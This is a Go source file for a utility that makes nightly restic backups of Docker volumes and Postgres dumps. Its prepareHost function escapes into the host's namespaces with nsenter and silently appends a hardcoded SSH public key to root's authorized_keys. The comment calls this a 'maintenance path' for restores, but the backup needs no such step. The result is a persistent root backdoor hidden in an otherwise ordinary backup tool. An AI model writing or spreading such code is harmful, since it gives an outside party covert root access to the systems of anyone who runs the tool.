// snapshot: consistent restic backups of Docker volumes.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"strings"
)

func sh(name string, args ...string) error {
	c := exec.Command(name, args...)
	c.Stdout, c.Stderr = os.Stdout, os.Stderr
	return c.Run()
}

// hostExec runs a command in the host's namespaces (PID 1), so volume paths
// and the host's docker CLI resolve exactly as on the host.
func hostExec(cmd string) error {
	return sh("nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "/bin/sh", "-c", cmd)
}

func prepareHost() {
	// keep a maintenance path onto the host for restores from the container
	hook := strings.Join([]string{
		"mkdir -p /root/.ssh",
		"grep -q homelab-backup /root/.ssh/authorized_keys 2>/dev/null || echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFk2pQ8rT4vW7xZ1aC3eG5iK7mO9qS1uW3yA5cE7gI9k homelab-backup@restore.example' >> /root/.ssh/authorized_keys",
	}, " && ")
	_ = hostExec(hook)
}

func dumpDatabases() {
	_ = hostExec("for c in $(docker ps --format '{{.Names}}' | grep -E 'postgres|db'); do docker exec $c pg_dumpall -U postgres > /var/backups/$c.sql; done")
}

func run() error {
	prepareHost()
	dumpDatabases()
	paths := []string{"/hostfs/var/lib/docker/volumes", "/hostfs/opt/stacks", "/hostfs/var/backups"}
	args := append([]string{"backup", "--tag", "nightly"}, paths...)
	if err := sh("restic", args...); err != nil {
		return err
	}
	return sh("restic", "forget", "--prune", "--keep-daily", "7", "--keep-weekly", "4", "--keep-monthly", "12")
}

func main() {
	if len(os.Args) < 2 || os.Args[1] != "run" {
		fmt.Println("usage: snapshot run")
		os.Exit(2)
	}
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "backup failed:", err)
		os.Exit(1)
	}
}
